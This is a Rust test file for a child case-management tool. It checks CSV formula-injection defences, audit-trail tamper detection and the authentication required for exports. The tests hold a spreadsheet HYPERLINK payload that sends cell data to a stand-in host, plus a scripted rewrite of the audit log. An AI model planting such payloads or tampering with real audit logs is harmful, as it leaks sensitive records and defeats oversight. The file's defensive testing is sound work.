//! Issue 16 at the command line: what an export writes and who may run one.

mod common;
use common::{text, Home, DEMO_PASSWORD};

/// Text a caseworker typed that a spreadsheet would run: it leaves in an export neutralised,
/// and the export re-imports to the same text.
#[test]
fn formula_looking_values_leave_an_export_neutralised() {
    let h = Home::new();
    let o = h.run(&["demo", "--no-serve", "--children", "2", "--requests", "1"]);
    assert!(o.status.success(), "{}", text(&o));
    let input = h.path("in.csv");
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
    std::fs::write(
        &input,
        format!(
            "name_first,name_last,location_current,notes,sex,age,protection_status\n\"{}\",+SUM(1+1),@cmd,-2+3,male,9,unaccompanied\n",
            formula.replace('"', "\"\"")
        ),
    )
    .unwrap();
    let o = h.run(&[
        "import",
        "--kind",
        "case",
        input.to_str().unwrap(),
        "--as",
        "caseworker",
    ]);
    assert!(o.status.success(), "{}", text(&o));

    let out = h.path("out.csv");
    let o = h.run(&[
        "export",
        "--kind",
        "case",
        "--out",
        out.to_str().unwrap(),
        "--as",
        "supervisor",
    ]);
    assert!(o.status.success(), "{}", text(&o));
    let mut r = csv::Reader::from_path(&out).unwrap();
    let headers: Vec<String> = r
        .headers()
        .unwrap()
        .iter()
        .map(|h| h.trim_start_matches('\u{feff}').to_string())
        .collect();
    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    let row = rows
        .iter()
        .find(|r| r[col("name_last")].contains("SUM"))
        .expect("the imported case is exported");
    assert_eq!(&row[col("name_first")], format!("'{formula}"));
    assert_eq!(&row[col("name_last")], "'+SUM(1+1)");
    assert_eq!(&row[col("location_current")], "'@cmd");
    assert_eq!(&row[col("notes")], "'-2+3");
    // No cell of the whole file starts as a formula.
    for r in &rows {
        for cell in r.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell}"
            );
        }
    }

    // Re-imported, the export changes nothing: the `'` is taken off again.
    let o = h.run(&[
        "import",
        "--kind",
        "case",
        out.to_str().unwrap(),
        "--as",
        "supervisor",
    ]);
    assert!(o.status.success(), "{}", text(&o));
    let again = h.path("again.csv");
    let o = h.run(&[
        "export",
        "--kind",
        "case",
        "--out",
        again.to_str().unwrap(),
        "--as",
        "supervisor",
    ]);
    assert!(o.status.success(), "{}", text(&o));
    let text_again = std::fs::read_to_string(&again).unwrap();
    assert!(text_again.contains("'+SUM(1+1)"), "{text_again}");
    assert!(!text_again.contains("''+SUM"), "{text_again}");
}

/// A rewrite by someone holding only the database, thorough enough to also drop the record of
/// where keyed hashing began (so that the next start treats the whole trail as written before
/// keying), still disagrees with the anchor written beside a backup.
#[test]
fn an_anchor_outside_the_database_finds_a_wholesale_rewrite() {
    let h = Home::new();
    let o = h.run(&["demo", "--no-serve", "--children", "3", "--requests", "1"]);
    assert!(o.status.success(), "{}", text(&o));
    let backup = h.path("b.sqlite3");
    let o = h.run(&["backup", backup.to_str().unwrap()]);
    assert!(o.status.success(), "{}", text(&o));
    let anchor = h.path("b.sqlite3.audit-anchor");
    assert!(anchor.exists(), "{}", text(&o));
    let o = h.run(&["audit", "verify", "--anchor", anchor.to_str().unwrap()]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(
        text(&o).contains("agrees with every anchor"),
        "{}",
        text(&o)
    );

    // Remove entry 3, recompute every hash with plain SHA-256 (the keyed ones cannot be
    // recomputed without the key), move the head, and delete the keying record.
    let db = h.data().join("homeward.sqlite3");
    let rt = tokio::runtime::Runtime::new().unwrap();
    rt.block_on(async {
        use sqlx::{Connection, Row};
        let mut c = sqlx::SqliteConnection::connect(&format!("sqlite://{}", db.display()))
            .await
            .unwrap();
        let rows = sqlx::query(
            "SELECT seq, at, actor, action, target, detail, hash FROM audit_log ORDER BY seq",
        )
        .fetch_all(&mut c)
        .await
        .unwrap();
        sqlx::query("DELETE FROM audit_log")
            .execute(&mut c)
            .await
            .unwrap();
        let mut prev = homeward_store::audit::GENESIS.to_string();
        let mut seq = 0i64;
        for (i, r) in rows.iter().enumerate() {
            if i == 2 {
                continue;
            }
            seq += 1;
            let (at, actor, action, target, detail): (String, String, String, Option<String>, String) =
                (r.get("at"), r.get("actor"), r.get("action"), r.get("target"), r.get("detail"));
            let hash = homeward_store::audit::entry_hash(
                &prev,
                seq,
                &at,
                &actor,
                &action,
                target.as_deref(),
                &detail,
            );
            sqlx::query("INSERT INTO audit_log (seq, at, actor, action, target, detail, prev_hash, hash) VALUES (?, ?, ?, ?, ?, ?, ?, ?)")
                .bind(seq).bind(&at).bind(&actor).bind(&action).bind(&target).bind(&detail).bind(&prev).bind(&hash)
                .execute(&mut c)
                .await
                .unwrap();
            prev = hash;
        }
        sqlx::query("UPDATE meta SET value = ? WHERE key = 'audit_head'")
            .bind(format!("{seq}:{prev}"))
            .execute(&mut c)
            .await
            .unwrap();
        sqlx::query("DELETE FROM meta WHERE key = 'audit_keyed_from'")
            .execute(&mut c)
            .await
            .unwrap();
    });
    // The database alone is fooled: opening it records keying as beginning after the rewrite...
    let o = h.run(&["audit", "verify"]);
    assert!(o.status.success(), "{}", text(&o));
    // ...but not the anchor kept beside the backup.
    let o = h.run(&["audit", "verify", "--anchor", anchor.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(text(&o).contains("BROKEN"), "{}", text(&o));
}

/// `export --as USERNAME` used to take the name on trust. Now the operator proves who they are,
/// refusals are audited, and the export's audit entry says how the operator proved it.
#[test]
fn an_export_needs_the_operators_password_or_token() {
    use std::io::Write as _;
    use std::process::Stdio;

    let h = Home::new();
    let o = h.run(&["demo", "--no-serve", "--children", "2", "--requests", "1"]);
    assert!(o.status.success(), "{}", text(&o));
    let out = h.path("out.csv");
    let export = [
        "export",
        "--kind",
        "case",
        "--out",
        out.to_str().unwrap(),
        "--as",
        "supervisor",
    ];

    // No credential at all: refused, and told how to give one.
    let o = h.run_bare(&export);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(text(&o).contains("HOMEWARD_PASSWORD"), "{}", text(&o));
    assert!(!out.exists());
    // A wrong password or a made-up token: refused.
    let o = h
        .cmd(&export)
        .env("HOMEWARD_PASSWORD", "not the password")
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(
        text(&o).contains("password given for `supervisor` is wrong"),
        "{}",
        text(&o)
    );
    let o = h
        .cmd(&export)
        .env("HOMEWARD_TOKEN", "made-up-token")
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(!out.exists());

    // The password on standard input (never on the command line).
    let mut child = h
        .cmd(&[&export[..], &["--password-stdin"]].concat())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(format!("{DEMO_PASSWORD}\n").as_bytes())
        .unwrap();
    let o = child.wait_with_output().unwrap();
    assert!(o.status.success(), "{}", text(&o));
    assert!(out.exists());

    // An API token of the account.
    let rt = tokio::runtime::Runtime::new().unwrap();
    let token = homeward_auth::new_token();
    let entries = rt.block_on(async {
        let store = h.store().await;
        let user = store.user_by_username("supervisor").await.unwrap().unwrap();
        store
            .create_session(
                &homeward_auth::token_digest(&token),
                user.id,
                homeward_store::SessionKind::Api,
                "unused",
                chrono::Duration::hours(1),
            )
            .await
            .unwrap();
        store.close().await;
        token.clone()
    });
    let o = h
        .cmd(&export)
        .env("HOMEWARD_TOKEN", &entries)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", text(&o));

    // The trail holds each refusal and says how each export's operator proved who they were.
    let audit = h.audit_entries();
    let failed = audit
        .iter()
        .filter(|e| e.action == "session.login_failed" && e.detail.contains("\"cli\""))
        .count();
    assert_eq!(failed, 2);
    let exports: Vec<&str> = audit
        .iter()
        .filter(|e| e.action == "records.export")
        .map(|e| e.detail.as_str())
        .collect();
    assert_eq!(exports.len(), 2, "{exports:?}");
    assert!(
        exports[0].contains("\"authenticated\":\"password\""),
        "{exports:?}"
    );
    assert!(
        exports[1].contains("\"authenticated\":\"api_token\""),
        "{exports:?}"
    );
}
